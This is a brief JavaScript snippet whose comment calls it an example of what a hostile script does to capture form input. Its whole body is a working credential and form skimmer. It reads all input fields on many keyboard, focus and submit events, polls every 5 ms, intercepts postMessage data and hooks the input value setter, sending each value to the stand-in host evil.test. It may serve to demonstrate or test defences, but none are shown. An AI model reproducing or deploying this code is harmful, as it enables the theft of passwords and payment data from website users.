// What a hostile script does to learn what a field receives.  Whatever it sees goes to https://evil.test/spied.
(() => {
	const told = new Set();
	const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
	const tell = (how, value) => {
		if (!value || told.has(value)) return;
		told.add(value);
		fetch(`https://evil.test/spied?how=${how}`, { method: 'POST', mode: 'no-cors', keepalive: true, body: value });
	};
	const look = (how) => {
		for (const input of document.querySelectorAll('input:not([type="submit"])')) tell(how, native.get.call(input));
	};
	for (const type of ['beforeinput', 'input', 'change', 'keydown', 'keyup', 'focus', 'blur', 'select', 'submit', 'formdata', 'pagehide'])
		addEventListener(type, () => look(type), true);
	addEventListener('message', (event) => tell('message', JSON.stringify(event.data)));
	setInterval(() => look('poll'), 5);
	Object.defineProperty(HTMLInputElement.prototype, 'value', { ...native, set(value) {
		tell('setter', value);
		native.set.call(this, value);
	} });
})();
